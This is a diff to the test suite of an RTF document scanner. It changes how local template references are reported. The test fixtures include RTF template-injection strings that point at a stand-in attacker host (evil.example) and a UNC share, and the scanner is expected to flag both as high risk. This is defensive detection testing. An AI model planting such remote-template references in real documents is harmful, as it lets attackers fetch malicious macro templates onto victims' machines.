@@ -66,14 +66,19 @@ describe('scanRtf', () => {
     );
   });
 
-  it('flags remote templates but not a local one', () => {
+  it('refuses remote templates and only notes a local one', () => {
     expect(kinds(scanRtf(rtf('{\\*\\template http://evil.example/t.dotm}')))).toEqual([
       'external-template:high',
     ]);
     expect(kinds(scanRtf(rtf('{\\*\\template \\\\\\\\10.0.0.1\\\\share\\\\t.dot}')))).toEqual([
       'external-template:high',
     ]);
-    expect(scanRtf(rtf('{\\*\\template C:\\\\Users\\\\jane\\\\Normal.dotm}'))).toEqual([]);
+    expect(kinds(scanRtf(rtf('{\\*\\template C:\\\\Users\\\\jane\\\\Normal.dotm}')))).toEqual([
+      'local-template:info',
+    ]);
+    expect(kinds(scanRtf(rtf('{\\*\\template file:///C:/Users/jane/Normal.dotm}')))).toEqual([
+      'local-template:info',
+    ]);
   });
 
   it('finds DDE fields and remote includes', () => {
